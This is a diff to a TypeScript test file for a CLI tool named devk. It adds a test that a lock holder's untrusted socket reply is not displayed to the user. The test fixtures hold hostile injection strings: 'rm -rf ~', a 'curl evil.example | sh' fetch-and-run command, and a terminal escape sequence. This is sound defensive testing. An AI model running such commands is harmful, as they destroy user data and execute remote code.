@@ -1,5 +1,7 @@
 import { type ChildProcess, spawn } from 'node:child_process'
+import { createHash } from 'node:crypto'
 import { once } from 'node:events'
+import { createServer } from 'node:net'
 import { join } from 'node:path'
 import { createInterface, type Interface } from 'node:readline'
 import { expect, onTestFinished, test } from 'vitest'
@@ -77,4 +79,25 @@ test('an abort ends the wait for a lock', async () => {
   abort.abort(new Error('stop'))
   await expect(waiting).rejects.toThrow()
   await lock.release()
+})
+
+test.each([
+  { pid: '1; rm -rf ~', command: 'devk up' },
+  { pid: 0, command: 'devk up' },
+  { pid: 4711, command: 'devk up; curl evil.example | sh' },
+  { pid: 4711, command: '\u001b]0;title\u0007' },
+  ['devk up'],
+  null,
+])('what another user answers under the name of a lock is not shown: %j', async (answer) => {
+  const path = join(folder(), 'lock')
+  const name = createHash('sha256').update(path).digest('hex').slice(0, 24)
+  const squatter = createServer((socket) => socket.end(JSON.stringify(answer)))
+  squatter.listen(`/tmp/devk-${process.getuid?.() ?? 0}-${name}.sock`)
+  await once(squatter, 'listening')
+  onTestFinished(() => void squatter.close())
+  const taking = acquireLock({ path, command: 'devk up', pid: 2, signal, platform: 'darwin' })
+  await expect(taking).rejects.toMatchObject({
+    message: 'Another devk is already running for this project',
+    hint: 'Wait until it ends, or stop it.',
+  })
 })
